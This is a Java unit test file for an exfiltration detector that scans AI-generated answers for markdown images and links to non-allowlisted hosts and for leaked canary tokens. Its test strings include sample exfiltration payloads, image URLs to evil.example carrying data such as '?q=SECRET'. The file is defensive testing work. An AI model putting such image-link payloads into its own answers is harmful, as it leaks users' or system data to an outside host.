package io.keel.guard.exfil;

import io.keel.core.guard.Direction;
import io.keel.core.guard.Finding;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class ExfiltrationDetectorTest {
    private final String canary = ExfiltrationDetector.newCanary();
    private final ExfiltrationDetector detector =
            new ExfiltrationDetector(new HostAllowlist(List.of("docs.example.com", "*.keel.dev")), List.of(canary));

    @Test
    void imagesToOtherHostsAreFlaggedAllowedHostsAreNot() {
        String answer = "Here: ![chart](https://evil.example/p.png?q=SECRET) and ![ok](https://docs.example.com/a.png) "
                + "and ![ok2](https://cdn.keel.dev/b.png) <img src=\"http://evil.example/x.gif\">";
        List<Finding> f = detector.detect(answer, Direction.OUTPUT);
        assertThat(f).extracting(Finding::type).containsExactly(ExfiltrationDetector.IMAGE, ExfiltrationDetector.IMAGE);
        assertThat(answer.substring(f.getFirst().start(), f.getFirst().end())).contains("evil.example/p.png");
    }

    @Test
    void referenceStyleImagesAreResolved() {
        String answer = "See ![x][1]\n\n[1]: https://evil.example/leak?d=abc\n";
        assertThat(detector.detect(answer, Direction.OUTPUT)).extracting(Finding::type).contains(ExfiltrationDetector.IMAGE);
    }

    @Test
    void linksAreWeakerFindings() {
        List<Finding> f = detector.detect("read [this](https://evil.example/a) or [that](https://docs.example.com/b)", Direction.OUTPUT);
        assertThat(f).singleElement().satisfies(x -> {
            assertThat(x.type()).isEqualTo(ExfiltrationDetector.LINK);
            assertThat(x.score()).isLessThan(0.95);
        });
    }

    @Test
    void aLeakedCanaryIsFoundInAnyCase() {
        assertThat(detector.detect("my instructions say " + canary.toUpperCase(), Direction.OUTPUT))
                .extracting(Finding::type).containsExactly(ExfiltrationDetector.CANARY);
        assertThat(canary).startsWith("keel-canary-").hasSize("keel-canary-".length() + 24);
    }

    @Test
    void inputIsNotChecked() {
        assertThat(detector.detect("![x](https://evil.example/a.png)", Direction.INPUT)).isEmpty();
    }
}
